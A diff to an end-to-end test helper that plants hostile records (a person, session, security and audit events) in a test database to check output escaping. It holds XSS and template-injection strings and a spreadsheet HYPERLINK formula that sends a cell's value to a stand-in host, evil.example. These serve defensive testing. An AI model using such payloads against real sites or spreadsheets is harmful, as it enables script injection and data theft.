@@ -5,6 +5,9 @@ import { assetKey } from '#lib/inventory/asset-key.ts'
 export const markup = `"'><img src=x onerror="window.hacked=1"><script>window.hacked=1</script>{{7*7}}`
 export const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Invoice")'
 
+/** The database of the browser tests. */
+const database = { config: { dataFolder: process.env.E2E_DATA ?? '.temper/e2e/demo' }, migrate: false, connections: 1 }
+
 const check = 'storage-minimum-tls'
 
 /**
@@ -12,7 +15,7 @@ const check = 'storage-minimum-tls'
  * attacker's, as a scan would have stored it. No sum counts it, so that other tests see the numbers that they expect.
  */
 export async function plantHostileAsset(): Promise<{ key: string; finding: string }> {
-  const db = await openDatabase({ config: { dataFolder: '.temper/e2e/demo' }, migrate: false, connections: 1 })
+  const db = await openDatabase(database)
   try {
     const { rows } = await db.pool.query(
       `select s.id, (select no from check_number where check_id = $1) as no, (select max(observed_at) from scan) as at
@@ -52,6 +55,42 @@ export async function plantHostileAsset(): Promise<{ key: string; finding: strin
       [key, no, at, subscription, markup, JSON.stringify(evidence)],
     )
     return { key, finding: `${key}.${check}` }
+  } finally {
+    await db.close()
+  }
+}
+
+/** Puts somebody there whose name, address of mail and browser are an attacker's, and what the logs say of them. */
+export async function plantHostilePerson(): Promise<void> {
+  const db = await openDatabase(database)
+  try {
+    const id = '66666666-6666-4666-8666-666666666666'
+    await db.pool.query(
+      'insert into person (id, name, username, last_seen_at) values ($1, $2, $3, now()) on conflict do nothing',
+      [id, markup, formula],
+    )
+    await db.pool.query(
+      `insert into session (id_hash, public_id, person_id, roles, groups, created_at, last_used_at, expires_at,
+                            authenticated_at, address, user_agent)
+       values (sha256('hostile'), $1, $1, '{Leadership}', '{}', now(), now(), now() + interval '1 hour', now(), $2, $2)
+       on conflict do nothing`,
+      [id, markup],
+    )
+    const detail = JSON.stringify({
+      path: markup,
+      [markup]: formula,
+      before: { name: markup },
+      after: { name: formula },
+    })
+    await db.pool.query(
+      `insert into security_event (at, kind, person_id, address, detail) values (now(), 'access.denied', $1, $2, $3)`,
+      [id, markup, detail],
+    )
+    await db.pool.query(
+      `insert into audit_event (at, actor, action, subject_type, subject_id, detail)
+       values (now(), $1, 'workload.change', 'workload', $2, $3)`,
+      [id, markup, detail],
+    )
   } finally {
     await db.close()
   }
